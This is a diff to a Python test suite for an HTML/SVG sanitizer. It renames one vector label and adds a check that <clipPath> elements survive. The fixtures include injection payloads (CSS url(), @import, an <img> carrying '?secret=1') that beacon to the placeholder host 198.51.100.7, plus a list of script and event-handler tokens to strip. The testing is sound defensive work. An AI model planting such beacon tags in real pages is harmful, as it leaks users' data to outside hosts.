@@ -34,7 +34,7 @@ HTML_VECTORS = {
     "style url()": ('<p style="color: red; background-image: url(http://198.51.100.7/leak)">x</p>',
                     "CSS that loads from the network"),
     "style @import": ('<style>@import "http://198.51.100.7/x.css";</style>', "CSS that loads from the network"),
-    "remote image": ('<img src="http://198.51.100.7/leak?secret=1">', "remote image"),
+    "image loaded from a URL": ('<img src="http://198.51.100.7/leak?secret=1">', "image loaded from a URL"),
 }
 
 
@@ -115,6 +115,7 @@ def test_matplotlib_svg_stays_a_complete_image():
     assert root.tagName == "svg" and root.getAttribute("xmlns") == "http://www.w3.org/2000/svg"
     assert out.count("<path") == source.count("<path") and out.count("<use") == source.count("<use")
     assert out.count("clip-path=") == source.count("clip-path=")
+    assert out.count("<clipPath") == source.count("<clipPath") >= 1
     assert screened.note() is None
 
 
@@ -130,7 +131,7 @@ def test_svg_vectors_are_removed():
     for bad in ("onload", "<script", "alert", "javascript:", "<animate", "foreignobject", "<iframe", "198.51.100.7"):
         assert bad not in out.lower(), (bad, out)
     assert '<rect fill="url(#grad)" width="3"></rect>' in out
-    for named in ("onload=", "<script>", "javascript: URL", "<animate>", "<foreignobject>", "remote image",
+    for named in ("onload=", "<script>", "javascript: URL", "<animate>", "<foreignobject>", "image loaded from a URL",
                   "CSS that loads from the network"):
         assert named in screened.note(), named
 
